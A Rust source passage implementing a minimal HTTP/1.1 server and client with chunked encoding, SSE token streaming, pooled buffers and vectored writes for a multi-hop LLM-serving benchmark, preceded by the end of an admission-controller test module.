        let ac = AdmissionController::new(cfg());
        assert!(ac.admit(Priority::Interactive, 1, 1_000_000, 0.0).is_ok());
    }

    #[test]
    fn admission_disabled_admits_everything() {
        let mut config = cfg();
        config.enabled = false;
        config.queue_cap = 0;
        let ac = AdmissionController::new(config);
        assert!(ac.admit(Priority::Interactive, 10_000, u64::MAX, 1.0).is_ok());
    }
}
