//! Minimal HTTP/1.1 over `std::net`: server, client, keep-alive, chunked
//! transfer encoding and SSE streaming.
//!
//! Every network hop in the architecture (user → auth → gateway → webapp →
//! HPC proxy, and GPU-node LLM servers) speaks this implementation, so the
//! latency/throughput benches measure real sockets, real parsing and real
//! framing — not in-process shortcuts.
//!
//! Scope: request line + headers + fixed-length or chunked bodies. No TLS
//! (the paper's TLS terminates at Apache; we model that hop's cost in the
//! latency config instead), no HTTP/2, no trailers.

use std::collections::HashMap;
use std::io::{BufRead, BufReader, IoSlice, Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream, ToSocketAddrs};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::mpsc::{Receiver, RecvTimeoutError, SyncSender};
use std::sync::{Arc, Mutex, OnceLock};
use std::time::{Duration, Instant};

use crate::util::streaming::{CancelToken, StreamStats};
use crate::util::threadpool::ThreadPool;

/// Maximum accepted header block (DoS guard).
const MAX_HEADER_BYTES: usize = 64 * 1024;
/// Maximum accepted body (DoS guard; chat prompts are far below this).
pub const MAX_BODY_BYTES: usize = 8 * 1024 * 1024;
/// Maximum accepted single transfer-encoding chunk on the relay path.
pub const MAX_CHUNK_BYTES: usize = MAX_BODY_BYTES;
/// Write-side batching caps: a coalesced `writev` never carries more than
/// this many queued chunks / bytes (bounds latency and iovec length).
const WRITE_BATCH_CHUNKS: usize = 32;
const WRITE_BATCH_BYTES: usize = 64 * 1024;

// ---------------------------------------------------------------------------
// Buffer pool (zero-copy relay fast path)
// ---------------------------------------------------------------------------

/// A pool of reusable byte buffers for the streaming relay fast path.
///
/// `take` hands out a cleared buffer — recycling a previously returned one
/// when available — and dropping the [`PooledBuf`] puts it back. Bounded
/// in both buffer count and per-buffer retained capacity, so a burst of
/// oversized chunks cannot pin memory. §Perf: on the token path this turns
/// per-chunk `Vec` allocation at every hop into O(1) amortized (steady
/// state: every chunk rides a recycled buffer).
pub struct BufferPool {
    bufs: Mutex<Vec<Vec<u8>>>,
    /// Max buffers kept for reuse.
    max_pooled: usize,
    /// Buffers that grew beyond this capacity are dropped, not pooled.
    max_retain: usize,
    allocations: AtomicU64,
    reuses: AtomicU64,
}

impl BufferPool {
    pub fn new(max_pooled: usize, max_retain: usize) -> Arc<BufferPool> {
        Arc::new(BufferPool {
            bufs: Mutex::new(Vec::new()),
            max_pooled,
            max_retain,
            allocations: AtomicU64::new(0),
            reuses: AtomicU64::new(0),
        })
    }

    /// Take a cleared buffer, reusing a pooled one when available.
    pub fn take(self: &Arc<BufferPool>) -> PooledBuf {
        let recycled = self.bufs.lock().unwrap().pop();
        let buf = match recycled {
            Some(b) => {
                self.reuses.fetch_add(1, Ordering::Relaxed);
                b
            }
            None => {
                self.allocations.fetch_add(1, Ordering::Relaxed);
                Vec::with_capacity(1024)
            }
        };
        PooledBuf {
            data: PooledData::Owned {
                buf,
                pool: Some(self.clone()),
            },
        }
    }

    fn put(&self, mut buf: Vec<u8>) {
        if buf.capacity() > self.max_retain {
            return;
        }
        buf.clear();
        let mut bufs = self.bufs.lock().unwrap();
        if bufs.len() < self.max_pooled {
            bufs.push(buf);
        }
    }

    /// Fresh buffers handed out because the pool was empty.
    pub fn allocations(&self) -> u64 {
        self.allocations.load(Ordering::Relaxed)
    }

    /// Buffers served from the pool without allocating.
    pub fn reuses(&self) -> u64 {
        self.reuses.load(Ordering::Relaxed)
    }
}

/// The process-wide relay pool shared by every hop (gateway, federation
/// router, HPC proxy, SSH reader and LLM server run in-process in tests
/// and benches; one pool maximizes recycling across them).
pub fn relay_pool() -> Arc<BufferPool> {
    static POOL: OnceLock<Arc<BufferPool>> = OnceLock::new();
    POOL.get_or_init(|| BufferPool::new(512, 256 * 1024)).clone()
}

enum PooledData {
    Owned {
        buf: Vec<u8>,
        pool: Option<Arc<BufferPool>>,
    },
    Static(&'static [u8]),
}

/// A byte chunk travelling a streamed response body: an owned buffer
/// (possibly borrowed from a [`BufferPool`] and returned on drop) or a
/// static slice (heartbeats, `[DONE]` — zero allocation per emission).
pub struct PooledBuf {
    data: PooledData,
}

impl PooledBuf {
    /// A chunk backed by a static byte slice — no allocation, nothing
    /// returned to any pool.
    pub fn from_static(bytes: &'static [u8]) -> PooledBuf {
        PooledBuf {
            data: PooledData::Static(bytes),
        }
    }

    pub fn as_slice(&self) -> &[u8] {
        match &self.data {
            PooledData::Owned { buf, .. } => buf,
            PooledData::Static(s) => s,
        }
    }

    /// Mutable access to the underlying vector (a static chunk is
    /// converted to an owned copy first).
    pub fn vec_mut(&mut self) -> &mut Vec<u8> {
        if let PooledData::Static(s) = self.data {
            self.data = PooledData::Owned {
                buf: s.to_vec(),
                pool: None,
            };
        }
        match &mut self.data {
            PooledData::Owned { buf, .. } => buf,
            PooledData::Static(_) => unreachable!("converted above"),
        }
    }
}

impl std::ops::Deref for PooledBuf {
    type Target = [u8];
    fn deref(&self) -> &[u8] {
        self.as_slice()
    }
}

impl From<Vec<u8>> for PooledBuf {
    fn from(buf: Vec<u8>) -> PooledBuf {
        PooledBuf {
            data: PooledData::Owned { buf, pool: None },
        }
    }
}

impl Drop for PooledBuf {
    fn drop(&mut self) {
        if let PooledData::Owned {
            buf,
            pool: Some(pool),
        } = &mut self.data
        {
            pool.put(std::mem::take(buf));
        }
    }
}

impl std::fmt::Debug for PooledBuf {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "PooledBuf({} bytes)", self.len())
    }
}

/// Stack capacity for the vectored-write iovec list; part counts beyond
/// this (very large chunk batches) fall back to one small `Vec`.
const STACK_IOVECS: usize = 16;

/// Write `parts` with one vectored write (`writev`), finishing any
/// OS-truncated remainder with plain `write_all`. The token relay uses
/// this to emit chunk-size line + payload + CRLF (or SSH frame head +
/// payload) as a single syscall instead of three. The iovec list lives on
/// the stack for small part counts (SSH frames are 2 parts, single chunks
/// 3), keeping the steady-state write path allocation-free.
pub(crate) fn write_all_vectored<W: Write>(w: &mut W, parts: &[&[u8]]) -> std::io::Result<()> {
    let total: usize = parts.iter().map(|p| p.len()).sum();
    let mut stack = [IoSlice::new(&[]); STACK_IOVECS];
    let heap: Vec<IoSlice<'_>>;
    let slices: &[IoSlice<'_>] = if parts.len() <= STACK_IOVECS {
        for (slot, p) in stack.iter_mut().zip(parts) {
            *slot = IoSlice::new(p);
        }
        &stack[..parts.len()]
    } else {
        heap = parts.iter().map(|p| IoSlice::new(p)).collect();
        &heap
    };
    let mut written = match w.write_vectored(slices) {
        Ok(n) => n,
        Err(e) if e.kind() == std::io::ErrorKind::Interrupted => 0,
        Err(e) => return Err(e),
    };
    if written >= total {
        return Ok(());
    }
    for p in parts {
        if written >= p.len() {
            written -= p.len();
            continue;
        }
        w.write_all(&p[written..])?;
        written = 0;
    }
    Ok(())
}

#[derive(Debug, thiserror::Error)]
pub enum HttpError {
    #[error("io: {0}")]
    Io(#[from] std::io::Error),
    #[error("malformed request: {0}")]
    BadRequest(String),
    #[error("malformed response: {0}")]
    BadResponse(String),
    #[error("body too large")]
    BodyTooLarge,
    /// The peer closed the connection before sending any response byte —
    /// the signature of a stale keep-alive connection (and the only
    /// post-write failure [`Client::send`] will retry, idempotent methods
    /// only).
    #[error("connection closed before a response arrived")]
    EarlyClose,
    /// A pool checkout waited its full timeout without a free slot.
    #[error("connection pool exhausted for {0}")]
    PoolExhausted(String),
}

/// A parsed HTTP request.
#[derive(Debug, Clone)]
pub struct Request {
    pub method: String,
    /// Path without the query string, e.g. `/v1/chat/completions`.
    pub path: String,
    /// Raw query string (without `?`), may be empty.
    pub query: String,
    /// Header names lowercased.
    pub headers: HashMap<String, String>,
    pub body: Vec<u8>,
    /// Peer address as seen by the server.
    pub peer: Option<SocketAddr>,
}

impl Request {
    pub fn new(method: &str, path: &str) -> Request {
        Request {
            method: method.to_string(),
            path: path.to_string(),
            query: String::new(),
            headers: HashMap::new(),
            body: Vec::new(),
            peer: None,
        }
    }

    pub fn with_body(mut self, body: impl Into<Vec<u8>>) -> Request {
        self.body = body.into();
        self
    }

    pub fn with_header(mut self, name: &str, value: &str) -> Request {
        self.headers.insert(name.to_lowercase(), value.to_string());
        self
    }

    pub fn header(&self, name: &str) -> Option<&str> {
        self.headers.get(&name.to_lowercase()).map(String::as_str)
    }

    pub fn body_str(&self) -> std::borrow::Cow<'_, str> {
        String::from_utf8_lossy(&self.body)
    }

    /// Does this request ask for a streamed (SSE) response? Parses the
    /// JSON body's `stream` field — a substring match would be fooled by
    /// `"stream":false` formatting or `stream` appearing inside message
    /// content. A cheap pre-filter keeps the hot path from JSON-parsing
    /// every proxied body.
    pub fn wants_stream(&self) -> bool {
        let Some(start) = self.body.iter().position(|b| !b.is_ascii_whitespace()) else {
            return false;
        };
        let body = &self.body[start..];
        if body.first() != Some(&b'{') {
            return false;
        }
        if !body.windows(8).any(|w| w == b"\"stream\"") {
            return false;
        }
        crate::util::json::parse(&self.body_str())
            .map(|v| v.bool_field("stream") == Some(true))
            .unwrap_or(false)
    }

    /// Parse `a=b&c=d` query params (no percent-decoding beyond `%20`/`+`).
    pub fn query_params(&self) -> HashMap<String, String> {
        parse_query(&self.query)
    }
}

pub fn parse_query(query: &str) -> HashMap<String, String> {
    let mut out = HashMap::new();
    for pair in query.split('&') {
        if pair.is_empty() {
            continue;
        }
        let (k, v) = pair.split_once('=').unwrap_or((pair, ""));
        out.insert(
            k.to_string(),
            v.replace('+', " ").replace("%20", " ").to_string(),
        );
    }
    out
}

/// A streamed response body: chunks are written as they arrive on the
/// channel; the channel hangup terminates the stream. Written with chunked
/// transfer encoding.
pub struct StreamBody {
    pub rx: Receiver<PooledBuf>,
    /// Relay fast path on the write side: already-queued chunks are
    /// drained and written as one vectored `writev` (size line + payload
    /// + CRLF per chunk, one syscall for the batch). Off reproduces the
    /// chunk-at-a-time write path for the ablation bench.
    pub relay: bool,
    /// Emit a `: heartbeat` SSE comment whenever the producer is idle this
    /// long. Armed only at origin hops (where chunk = whole SSE event);
    /// injecting comments between arbitrary proxied chunks could split an
    /// event mid-line.
    pub heartbeat: Option<Duration>,
    /// Cancelled when writing to the client fails — the write side is the
    /// disconnect detector, and this token is how the producer learns.
    pub cancel: Option<CancelToken>,
    /// A client accepting no bytes for this long is treated as
    /// disconnected (socket write timeout for the streamed body).
    pub stall_timeout: Option<Duration>,
    /// Heartbeat / disconnect counters.
    pub stats: Option<Arc<StreamStats>>,
}

/// Response body: either a full buffer or a lazily produced chunk stream
/// (used for SSE token streaming).
pub enum Body {
    Full(Vec<u8>),
    Stream(StreamBody),
}

impl std::fmt::Debug for Body {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Body::Full(b) => write!(f, "Body::Full({} bytes)", b.len()),
            Body::Stream(_) => write!(f, "Body::Stream"),
        }
    }
}

/// An HTTP response under construction.
#[derive(Debug)]
pub struct Response {
    pub status: u16,
    pub headers: Vec<(String, String)>,
    pub body: Body,
}

impl Response {
    pub fn new(status: u16) -> Response {
        Response {
            status,
            headers: Vec::new(),
            body: Body::Full(Vec::new()),
        }
    }

    pub fn text(status: u16, body: impl Into<String>) -> Response {
        Response::new(status)
            .with_header("content-type", "text/plain; charset=utf-8")
            .with_body(body.into().into_bytes())
    }

    pub fn json(status: u16, v: &crate::util::json::Json) -> Response {
        Response::new(status)
            .with_header("content-type", "application/json")
            .with_body(v.to_string().into_bytes())
    }

    /// JSON error body in the OpenAI style (`{"error":{"message","type",
    /// "code"}}`). Shorthand for [`Response::api_error`] without trace or
    /// Retry-After.
    pub fn error(status: u16, message: &str) -> Response {
        Response::api_error(status, message, None, None)
    }

    /// The one OpenAI-shaped error body every hop emits:
    /// `{"error":{"message","type","code"}}`, with the trace id stamped
    /// into the body (`trace`) when present and Retry-After preserved as
    /// a header. Gateway, federation router and proxies all route their
    /// upstream failures through here so clients see one shape.
    pub fn api_error(
        status: u16,
        message: &str,
        trace: Option<&str>,
        retry_after: Option<&str>,
    ) -> Response {
        let mut err = crate::util::json::Json::obj()
            .set("message", message)
            .set("type", error_type_for(status))
            .set("code", status as u64);
        if let Some(t) = trace {
            err = err.set("trace", t);
        }
        let mut resp = Response::json(status, &crate::util::json::Json::obj().set("error", err));
        if let Some(ra) = retry_after {
            resp = resp.with_header("retry-after", ra);
        }
        resp
    }

    /// A terminal SSE `event: error` frame in the same OpenAI shape as
    /// [`Response::api_error`] — for failures after a stream has already
    /// committed its 200 head. `code` is a symbolic string here (e.g.
    /// `"upstream_error"`, `"instance_lost"`) since no status line can be
    /// sent any more.
    pub fn sse_error_event(message: &str, code: &str, trace: Option<&str>) -> Vec<u8> {
        let mut err = crate::util::json::Json::obj()
            .set("message", message)
            .set("type", "server_error")
            .set("code", code);
        if let Some(t) = trace {
            err = err.set("trace", t);
        }
        let payload = crate::util::json::Json::obj().set("error", err);
        format!("event: error\ndata: {payload}\n\n").into_bytes()
    }

    /// A streaming (chunked) response; returns the sender half for the
    /// producer. Buffered up to `cap` chunks for backpressure. Chunks are
    /// [`PooledBuf`]s so relay hops can pass pool-recycled buffers through
    /// without copying (`Vec<u8>` converts via `.into()`).
    pub fn stream(status: u16, cap: usize) -> (Response, SyncSender<PooledBuf>) {
        let (tx, rx) = std::sync::mpsc::sync_channel(cap);
        (
            Response {
                status,
                headers: Vec::new(),
                body: Body::Stream(StreamBody {
                    rx,
                    relay: true,
                    heartbeat: None,
                    cancel: None,
                    stall_timeout: None,
                    stats: None,
                }),
            },
            tx,
        )
    }

    /// An SSE event-stream response.
    pub fn sse(cap: usize) -> (Response, SyncSender<PooledBuf>) {
        let (resp, tx) = Response::stream(200, cap);
        (
            resp.with_header("content-type", "text/event-stream")
                .with_header("cache-control", "no-cache"),
            tx,
        )
    }

    /// Toggle the write-side relay fast path (vectored, batched chunk
    /// writes). On by default; `[streaming] relay = false` threads through
    /// here for the ablation bench.
    pub fn with_relay(mut self, relay: bool) -> Response {
        if let Body::Stream(sb) = &mut self.body {
            sb.relay = relay;
        }
        self
    }

    /// Arm write-side SSE heartbeats on a streamed body (origin hops only:
    /// comments are injected between chunks, so chunks must be whole
    /// events).
    pub fn with_heartbeat(mut self, interval: Duration) -> Response {
        if let Body::Stream(sb) = &mut self.body {
            sb.heartbeat = Some(interval);
        }
        self
    }

    /// Cancel `token` when the client disconnects mid-stream.
    pub fn with_stream_cancel(mut self, token: CancelToken) -> Response {
        if let Body::Stream(sb) = &mut self.body {
            sb.cancel = Some(token);
        }
        self
    }

    /// Treat a client that accepts no bytes for `timeout` as disconnected.
    pub fn with_stall_timeout(mut self, timeout: Duration) -> Response {
        if let Body::Stream(sb) = &mut self.body {
            sb.stall_timeout = Some(timeout);
        }
        self
    }

    /// Count heartbeats / disconnects on this stream into `stats`.
    pub fn with_stream_stats(mut self, stats: Arc<StreamStats>) -> Response {
        if let Body::Stream(sb) = &mut self.body {
            sb.stats = Some(stats);
        }
        self
    }

    pub fn with_header(mut self, name: &str, value: &str) -> Response {
        self.headers.push((name.to_string(), value.to_string()));
        self
    }

    pub fn with_body(mut self, body: Vec<u8>) -> Response {
        self.body = Body::Full(body);
        self
    }

    pub fn header(&self, name: &str) -> Option<&str> {
        self.headers
            .iter()
            .find(|(k, _)| k.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.as_str())
    }
}

/// Map a status code to the OpenAI error `type` string used in error
/// bodies ([`Response::api_error`]).
fn error_type_for(status: u16) -> &'static str {
    match status {
        401 | 403 => "authentication_error",
        404 => "not_found_error",
        429 => "rate_limit_error",
        400..=499 => "invalid_request_error",
        500..=599 => "server_error",
        _ => "api_error",
    }
}

fn status_text(code: u16) -> &'static str {
    match code {
        200 => "OK",
        201 => "Created",
        204 => "No Content",
        301 => "Moved Permanently",
        302 => "Found",
        400 => "Bad Request",
        401 => "Unauthorized",
        403 => "Forbidden",
        404 => "Not Found",
        405 => "Method Not Allowed",
        408 => "Request Timeout",
        413 => "Payload Too Large",
        429 => "Too Many Requests",
        500 => "Internal Server Error",
        502 => "Bad Gateway",
        503 => "Service Unavailable",
        504 => "Gateway Timeout",
        _ => "Unknown",
    }
}

/// Request handler: borrowed request in, response out.
pub type Handler = Arc<dyn Fn(&Request) -> Response + Send + Sync + 'static>;

/// An HTTP/1.1 server on a dedicated acceptor thread + worker pool.
pub struct Server {
    addr: SocketAddr,
    shutdown: Arc<AtomicBool>,
    acceptor: Option<std::thread::JoinHandle<()>>,
    /// Live connection sockets, severed on `stop()` so keep-alive reads
    /// don't pin the worker pool for their full read timeout.
    sessions: Arc<std::sync::Mutex<Vec<TcpStream>>>,
}

impl Server {
    /// Bind `addr` (use port 0 for an ephemeral port) and serve `handler`
    /// on `workers` pool threads.
    pub fn serve(
        addr: &str,
        name: &str,
        workers: usize,
        handler: Handler,
    ) -> std::io::Result<Server> {
        let listener = TcpListener::bind(addr)?;
        let addr = listener.local_addr()?;
        let shutdown = Arc::new(AtomicBool::new(false));
        let accept_shutdown = shutdown.clone();
        let sessions = Arc::new(std::sync::Mutex::new(Vec::<TcpStream>::new()));
        let accept_sessions = sessions.clone();
        let pool = ThreadPool::new(name, workers);
        let acceptor = std::thread::Builder::new()
            .name(format!("{name}-accept"))
            .spawn(move || {
                for stream in listener.incoming() {
                    if accept_shutdown.load(Ordering::SeqCst) {
                        break;
                    }
                    match stream {
                        Ok(stream) => {
                            if let Ok(clone) = stream.try_clone() {
                                let mut sessions = accept_sessions.lock().unwrap();
                                // Bound the registry: drop closed sockets.
                                if sessions.len() > 1024 {
                                    sessions.retain(|s| s.peer_addr().is_ok());
                                }
                                sessions.push(clone);
                            }
                            let handler = handler.clone();
                            pool.execute(move || {
                                let _ = handle_connection(stream, handler);
                            });
                        }
                        Err(_) => continue,
                    }
                }
                pool.shutdown();
            })?;
        Ok(Server {
            addr,
            shutdown,
            acceptor: Some(acceptor),
            sessions,
        })
    }

    pub fn addr(&self) -> SocketAddr {
        self.addr
    }

    pub fn url(&self) -> String {
        format!("http://{}", self.addr)
    }

    /// Stop accepting, sever idle keep-alive connections and join the
    /// acceptor. In-flight requests are cut.
    pub fn stop(&mut self) {
        if self.shutdown.swap(true, Ordering::SeqCst) {
            return;
        }
        for s in self.sessions.lock().unwrap().drain(..) {
            let _ = s.shutdown(std::net::Shutdown::Both);
        }
        // Wake the blocking accept with a dummy connection.
        let _ = TcpStream::connect(self.addr);
        if let Some(handle) = self.acceptor.take() {
            let _ = handle.join();
        }
    }
}

impl Drop for Server {
    fn drop(&mut self) {
        self.stop();
    }
}

/// Serve requests on one connection until close / keep-alive ends.
fn handle_connection(stream: TcpStream, handler: Handler) -> Result<(), HttpError> {
    stream.set_nodelay(true).ok();
    stream
        .set_read_timeout(Some(Duration::from_secs(30)))
        .ok();
    let peer = stream.peer_addr().ok();
    let mut reader = BufReader::with_capacity(16 * 1024, stream.try_clone()?);
    let mut writer = stream;
    loop {
        let mut req = match read_request(&mut reader) {
            Ok(Some(req)) => req,
            Ok(None) => return Ok(()), // clean EOF between requests
            Err(HttpError::Io(_)) => return Ok(()),
            Err(e) => {
                let resp = Response::error(400, &format!("{e}"));
                let _ = write_response(&mut writer, resp, false);
                return Ok(());
            }
        };
        req.peer = peer;
        let keep_alive = req
            .header("connection")
            .map(|c| !c.eq_ignore_ascii_case("close"))
            .unwrap_or(true);
        let resp = handler(&req);
        // Streamed bodies get a write timeout: a client that stops reading
        // (without closing) would otherwise pin this worker forever once
        // the socket buffer fills. Timeout = disconnect (stall policy).
        let stall = match &resp.body {
            Body::Stream(sb) => sb.stall_timeout,
            Body::Full(_) => None,
        };
        if let Some(t) = stall {
            writer.set_write_timeout(Some(t)).ok();
        }
        let result = write_response(&mut writer, resp, keep_alive);
        if stall.is_some() {
            writer.set_write_timeout(None).ok();
        }
        result?;
        if !keep_alive {
            return Ok(());
        }
    }
}

/// Read one request; `Ok(None)` on immediate EOF (idle keep-alive close).
fn read_request<R: BufRead>(reader: &mut R) -> Result<Option<Request>, HttpError> {
    let mut line = String::new();
    let n = reader.read_line(&mut line)?;
    if n == 0 {
        return Ok(None);
    }
    let line = line.trim_end();
    let mut parts = line.split_whitespace();
    let method = parts
        .next()
        .ok_or_else(|| HttpError::BadRequest("empty request line".into()))?
        .to_string();
    let target = parts
        .next()
        .ok_or_else(|| HttpError::BadRequest("missing target".into()))?;
    let version = parts.next().unwrap_or("HTTP/1.1");
    if !version.starts_with("HTTP/1.") {
        return Err(HttpError::BadRequest(format!("bad version {version}")));
    }
    let (path, query) = match target.split_once('?') {
        Some((p, q)) => (p.to_string(), q.to_string()),
        None => (target.to_string(), String::new()),
    };
    let headers = read_headers(reader)?;
    let body = read_body(reader, &headers)?;
    Ok(Some(Request {
        method,
        path,
        query,
        headers,
        body,
        peer: None,
    }))
}

fn read_headers<R: BufRead>(reader: &mut R) -> Result<HashMap<String, String>, HttpError> {
    let mut headers = HashMap::new();
    let mut total = 0usize;
    loop {
        let mut line = String::new();
        let n = reader.read_line(&mut line)?;
        if n == 0 {
            return Err(HttpError::BadRequest("eof in headers".into()));
        }
        total += n;
        if total > MAX_HEADER_BYTES {
            return Err(HttpError::BadRequest("header block too large".into()));
        }
        let line = line.trim_end();
        if line.is_empty() {
            return Ok(headers);
        }
        let (name, value) = line
            .split_once(':')
            .ok_or_else(|| HttpError::BadRequest(format!("bad header line: {line}")))?;
        headers.insert(name.trim().to_lowercase(), value.trim().to_string());
    }
}

fn read_body<R: BufRead>(
    reader: &mut R,
    headers: &HashMap<String, String>,
) -> Result<Vec<u8>, HttpError> {
    if let Some(te) = headers.get("transfer-encoding") {
        if te.eq_ignore_ascii_case("chunked") {
            return read_chunked_body(reader);
        }
    }
    let len: usize = headers
        .get("content-length")
        .map(|v| {
            v.parse()
                .map_err(|_| HttpError::BadRequest("bad content-length".into()))
        })
        .transpose()?
        .unwrap_or(0);
    if len > MAX_BODY_BYTES {
        return Err(HttpError::BodyTooLarge);
    }
    let mut body = vec![0u8; len];
    reader.read_exact(&mut body)?;
    Ok(body)
}

fn read_chunked_body<R: BufRead>(reader: &mut R) -> Result<Vec<u8>, HttpError> {
    let mut body = Vec::new();
    loop {
        let mut size_line = String::new();
        reader.read_line(&mut size_line)?;
        let size = usize::from_str_radix(size_line.trim(), 16)
            .map_err(|_| HttpError::BadRequest("bad chunk size".into()))?;
        if body.len() + size > MAX_BODY_BYTES {
            return Err(HttpError::BodyTooLarge);
        }
        if size == 0 {
            // trailing CRLF after last chunk
            let mut crlf = String::new();
            reader.read_line(&mut crlf)?;
            return Ok(body);
        }
        let start = body.len();
        body.resize(start + size, 0);
        reader.read_exact(&mut body[start..])?;
        let mut crlf = [0u8; 2];
        reader.read_exact(&mut crlf)?;
    }
}

fn write_response<W: Write>(
    writer: &mut W,
    resp: Response,
    keep_alive: bool,
) -> Result<(), HttpError> {
    let mut head = format!("HTTP/1.1 {} {}\r\n", resp.status, status_text(resp.status));
    let conn = if keep_alive { "keep-alive" } else { "close" };
    head.push_str(&format!("connection: {conn}\r\n"));
    for (k, v) in &resp.headers {
        head.push_str(&format!("{k}: {v}\r\n"));
    }
    match resp.body {
        Body::Full(body) => {
            head.push_str(&format!("content-length: {}\r\n\r\n", body.len()));
            writer.write_all(head.as_bytes())?;
            writer.write_all(&body)?;
            writer.flush()?;
        }
        Body::Stream(sb) => {
            head.push_str("transfer-encoding: chunked\r\n\r\n");
            let result = (|| -> Result<(), HttpError> {
                writer.write_all(head.as_bytes())?;
                writer.flush()?;
                stream_chunks(writer, &sb)?;
                writer.write_all(b"0\r\n\r\n")?;
                writer.flush()?;
                Ok(())
            })();
            if let Err(e) = result {
                // The write side is the disconnect detector: tell the
                // producer so the cancellation propagates upstream.
                if let Some(token) = &sb.cancel {
                    token.cancel();
                }
                if let Some(stats) = &sb.stats {
                    stats
                        .client_disconnects
                        .fetch_add(1, std::sync::atomic::Ordering::Relaxed);
                }
                return Err(e);
            }
        }
    }
    Ok(())
}

/// `{:x}\r\n` for a chunk-size line, formatted into a stack buffer (no
/// per-chunk `String`); returns (buffer, length).
fn hex_size_line(mut n: usize) -> ([u8; 18], usize) {
    const HEX: &[u8; 16] = b"0123456789abcdef";
    let mut digits = [0u8; 16];
    let mut i = 0;
    loop {
        digits[i] = HEX[n & 0xf];
        n >>= 4;
        i += 1;
        if n == 0 {
            break;
        }
    }
    let mut out = [0u8; 18];
    let mut len = 0;
    while i > 0 {
        i -= 1;
        out[len] = digits[i];
        len += 1;
    }
    out[len] = b'\r';
    out[len + 1] = b'\n';
    (out, len + 2)
}

/// Write a batch of chunks as chunked-transfer frames in one vectored
/// write: size line + payload + CRLF per chunk, one `writev` for the lot.
fn write_chunk_batch<W: Write>(writer: &mut W, chunks: &[PooledBuf]) -> std::io::Result<()> {
    let mut size_lines: Vec<([u8; 18], usize)> = Vec::with_capacity(chunks.len());
    for c in chunks {
        size_lines.push(hex_size_line(c.len()));
    }
    let mut parts: Vec<&[u8]> = Vec::with_capacity(chunks.len() * 3);
    for (c, (line, n)) in chunks.iter().zip(&size_lines) {
        parts.push(&line[..*n]);
        parts.push(c.as_slice());
        parts.push(b"\r\n");
    }
    write_all_vectored(writer, &parts)
}

/// Pump a streamed body's chunks to the client, emitting `: heartbeat`
/// SSE comments during producer-idle gaps when armed. In relay mode,
/// chunks already queued behind the first are drained and written as one
/// vectored batch — pure win, no added latency (only merges what has
/// already arrived).
fn stream_chunks<W: Write>(writer: &mut W, sb: &StreamBody) -> Result<(), HttpError> {
    let mut batch: Vec<PooledBuf> = Vec::new();
    loop {
        let chunk = match sb.heartbeat {
            Some(interval) => match sb.rx.recv_timeout(interval) {
                Ok(c) => c,
                Err(RecvTimeoutError::Timeout) => {
                    if let Some(stats) = &sb.stats {
                        stats
                            .heartbeats_sent
                            .fetch_add(1, std::sync::atomic::Ordering::Relaxed);
                    }
                    PooledBuf::from_static(b": heartbeat\n\n")
                }
                Err(RecvTimeoutError::Disconnected) => return Ok(()),
            },
            None => match sb.rx.recv() {
                Ok(c) => c,
                Err(_) => return Ok(()),
            },
        };
        if chunk.is_empty() {
            continue;
        }
        if sb.relay {
            batch.clear();
            let mut total = chunk.len();
            batch.push(chunk);
            while batch.len() < WRITE_BATCH_CHUNKS && total < WRITE_BATCH_BYTES {
                match sb.rx.try_recv() {
                    Ok(c) => {
                        if !c.is_empty() {
                            total += c.len();
                            batch.push(c);
                        }
                    }
                    Err(_) => break,
                }
            }
            if batch.len() > 1 {
                if let Some(stats) = &sb.stats {
                    stats
                        .frames_batched
                        .fetch_add(batch.len() as u64 - 1, std::sync::atomic::Ordering::Relaxed);
                }
            }
            write_chunk_batch(writer, &batch)?;
            // Dropping the batched chunks returns pooled buffers.
            batch.clear();
        } else {
            write!(writer, "{:x}\r\n", chunk.len())?;
            writer.write_all(&chunk)?;
            writer.write_all(b"\r\n")?;
        }
        writer.flush()?;
    }
}

// ---------------------------------------------------------------------------
// Client
// ---------------------------------------------------------------------------

/// A client response. For streamed (chunked) responses, `body` holds the
/// fully reassembled bytes unless you use [`Client::send_streaming`].
#[derive(Debug)]
pub struct ClientResponse {
    pub status: u16,
    pub headers: HashMap<String, String>,
    pub body: Vec<u8>,
}

impl ClientResponse {
    pub fn body_str(&self) -> std::borrow::Cow<'_, str> {
        String::from_utf8_lossy(&self.body)
    }

    pub fn json(&self) -> Result<crate::util::json::Json, crate::util::json::JsonError> {
        crate::util::json::parse(&self.body_str())
    }
}

/// TCP connections opened by [`Client`]s, process-wide. The connection-
/// pool ablation reads this as its "sockets consumed" measure.
static DIALS: AtomicU64 = AtomicU64::new(0);

/// How many TCP connections [`Client`]s have dialed in this process.
pub fn connections_dialed() -> u64 {
    DIALS.load(Ordering::Relaxed)
}

/// A keep-alive HTTP client pinned to one host (one TCP connection,
/// reused across requests). The transport layer under [`PooledConn`]:
/// the pool parks the connection between checkouts, `Client` owns the
/// wire protocol.
pub struct Client {
    addr: String,
    conn: Option<BufReader<TcpStream>>,
    /// Connect/read timeout.
    pub timeout: Duration,
}

/// Where a [`Client::send_once`] attempt failed — the retry policy hinges
/// on whether the request had been committed to the peer yet.
enum SendStage {
    Connect,
    RequestWrite,
    ResponseHead,
    ResponseBody,
}

impl Client {
    pub fn new(addr: &str) -> Client {
        Client {
            addr: addr.trim_start_matches("http://").to_string(),
            conn: None,
            timeout: Duration::from_secs(30),
        }
    }

    /// Open a fresh connection (does not touch the cached one).
    fn dial(&self) -> std::io::Result<BufReader<TcpStream>> {
        let sockaddr = self
            .addr
            .to_socket_addrs()?
            .next()
            .ok_or_else(|| std::io::Error::other("no address"))?;
        let stream = TcpStream::connect_timeout(&sockaddr, self.timeout)?;
        stream.set_nodelay(true).ok();
        stream.set_read_timeout(Some(self.timeout)).ok();
        DIALS.fetch_add(1, Ordering::Relaxed);
        Ok(BufReader::new(stream))
    }

    fn connect(&mut self) -> std::io::Result<&mut BufReader<TcpStream>> {
        if self.conn.is_none() {
            self.conn = Some(self.dial()?);
        }
        Ok(self.conn.as_mut().unwrap())
    }

    pub fn get(&mut self, path: &str) -> Result<ClientResponse, HttpError> {
        self.send(&Request::new("GET", path))
    }

    pub fn post_json(
        &mut self,
        path: &str,
        body: &crate::util::json::Json,
    ) -> Result<ClientResponse, HttpError> {
        self.send(
            &Request::new("POST", path)
                .with_header("content-type", "application/json")
                .with_body(body.to_string().into_bytes()),
        )
    }

